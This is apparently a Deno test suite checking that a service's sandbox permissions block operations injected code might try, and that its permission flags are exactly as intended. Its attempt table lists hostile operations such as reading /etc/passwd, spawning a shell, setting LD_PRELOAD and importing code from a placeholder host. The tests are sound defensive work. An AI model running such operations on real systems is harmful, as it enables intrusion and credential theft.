import { assert, assertEquals } from "@std/assert";
import { readConfig } from "../../../lib/config/config.ts";
import { testWith } from "../../permissions.ts";
import { runDeno } from "../../program.ts";
import { taskArguments } from "../../task_arguments.ts";
import { startAll } from "../support/suite.ts";
import { within } from "../support/within.ts";

const NEEDS = { run: true, read: true, env: true, net: true } as const;

/** The settings of each start. */
const STARTS = {
  "start": {},
  "start with TLS": { TLS_CERT: "/tmp/cert.pem", TLS_KEY: "/tmp/key.pem" },
} as const;

type Start = keyof typeof STARTS;

/** The flags of a start. */
function flagsOf(start: Start): string[] {
  return taskArguments(STARTS[start]).slice(0, -1);
}

/** A dynamic import whose URL the runtime cannot see before the code runs. */
function importing(url: string, type?: "text"): string {
  const options = type === undefined ? "" : `, { with: { type: "${type}" } }`;
  return `await import(["${url}"].join()${options})`;
}

/** Operations that injected code could try. */
const ATTEMPTS: Readonly<Record<string, string>> = {
  "read a file": `Deno.readTextFileSync("/etc/passwd")`,
  "read its own source": `Deno.readTextFileSync("main.ts")`,
  "list a directory": `[...Deno.readDirSync("/")]`,
  "write a file": `Deno.writeTextFileSync("taken-over.txt", "")`,
  "run a program": `new Deno.Command("sh").outputSync()`,
  "load a library": `Deno.dlopen("libc.so.6", {})`,
  "read another variable": `Deno.env.get("PATH")`,
  "read all variables": `Deno.env.toObject()`,
  "set another variable": `Deno.env.set("LD_PRELOAD", "x")`,
  "read the host name": `Deno.hostname()`,
  "read the user id": `Deno.uid()`,
  "signal another process": `Deno.kill(1, "SIGCONT")`,
  "reach another host":
    `await Deno.connect({ hostname: "192.0.2.1", port: 80 })`,
  "fetch from another host": `await fetch("http://192.0.2.1/")`,
  "resolve a name": `await Deno.resolveDns("example.com", "A")`,
  "import from another host": `await import("https://192.0.2.1/module.js")`,
  // The default of --allow-import has these hosts.
  "import from jsr.io": importing("https://jsr.io/module.js"),
  "import from deno.land": importing("https://deno.land/module.js"),
  "import another file": importing("file:///etc/passwd"),
  "import a file as text": importing("file:///etc/passwd", "text"),
};

/** Operations that no flag of the runtime forbids. */
const ALLOWED: Readonly<Record<string, string>> = {
  "connect to any port of this machine":
    `const at = Deno.listen({ hostname: "127.0.0.1", port: 0 }); await Deno.connect(at.addr)`,
  "listen on any port": `Deno.listen({ hostname: "0.0.0.0", port: 0 })`,
  "store data in the runtime's directory":
    `await caches.open("permissions_test"); await caches.delete("permissions_test")`,
  "start a thread": `new Worker("data:text/javascript,", { type: "module" })`,
  "run code from a string": `await import("data:text/javascript,1")`,
};

/** Runs each code with a start's flags; returns the results by name, `done` or the error. */
async function run(
  start: Start,
  codes: Readonly<Record<string, string>>,
): Promise<Readonly<Record<string, string>>> {
  const entries = Object.entries(codes).map(([name, code]) =>
    `${JSON.stringify(name)}: async () => { ${code} }`
  );
  const source = `
    const results = {};
    for (const [name, attempt] of Object.entries({ ${entries.join(", ")} })) {
      results[name] = await attempt().then(
        () => "done",
        (error) => error.name + " " + error.message,
      );
    }
    console.log(JSON.stringify(results));
    Deno.exit();`;
  const module = `data:application/javascript,${encodeURIComponent(source)}`;
  const { out, error } = await within(
    runDeno([...flagsOf(start), "--no-prompt", module]),
    "the end of the process",
  );
  assert(out !== "", error);
  return JSON.parse(out);
}

const REFUSAL = /^NotCapable |^TypeError .*(?:Requires|access|--no-remote)/;

for (const start of Object.keys(STARTS) as Start[]) {
  testWith(
    NEEDS,
    `${start}: its permissions refuse what an attacker in the process may try`,
    async () => {
      const results = await run(start, ATTEMPTS);
      const done = Object.entries(results)
        .filter(([, result]) => !REFUSAL.test(result));
      assertEquals(done, []);
      assertEquals(Object.keys(results), Object.keys(ATTEMPTS));
    },
  );
}

testWith(
  NEEDS,
  "start: the runtime allows some actions whatever its flags",
  async () => {
    const results = await run("start", ALLOWED);
    for (const name of Object.keys(ALLOWED)) {
      assertEquals(results[name], "done");
    }
  },
);

/** The values of a start's permission flags. */
function permissionsOf(start: Start): Map<string, string[]> {
  const flags = flagsOf(start).filter((flag) => flag.startsWith("--allow-"));
  return new Map(
    flags.map((flag) => {
      const [name, values] = flag.split("=") as [string, string | undefined];
      return [name, values?.split(",") ?? ["everything"]];
    }),
  );
}

Deno.test("start has the permissions to listen, to see its addresses and to read its variables only", () => {
  const permissions = permissionsOf("start");
  assertEquals([...permissions.keys()].sort(), [
    "--allow-env",
    "--allow-net",
    "--allow-sys",
  ]);
  assertEquals(permissions.get("--allow-sys"), [
    "systemMemoryInfo",
    "networkInterfaces",
  ]);
  assertEquals(permissions.get("--allow-net"), [
    "0.0.0.0",
    "127.0.0.1",
    "[::]",
    "[::1]",
    "localhost",
  ]);
});

Deno.test("start with TLS has the permissions of start and may read the certificate and the key", () => {
  const permissions = permissionsOf("start with TLS");
  assertEquals(permissions.get("--allow-read"), [
    "/tmp/cert.pem",
    "/tmp/key.pem",
  ]);
  permissions.delete("--allow-read");
  assertEquals(permissions, permissionsOf("start"));
});

Deno.test("start may read the variables of the configuration and no other", () => {
  const read = new Set<string>();
  readConfig((name) => void read.add(name));
  const allowed = permissionsOf("start").get("--allow-env")!;
  assertEquals(allowed.toSorted(), [...read].sort());
});

testWith(
  NEEDS,
  "the service runs with its permissions and requests no other",
  async () => {
    await using server = await startAll({});
    const requests = server.lines.filter((line) =>
      /permission|NotCapable|access to/i.test(line)
    );
    assertEquals(requests, []);
  },
);
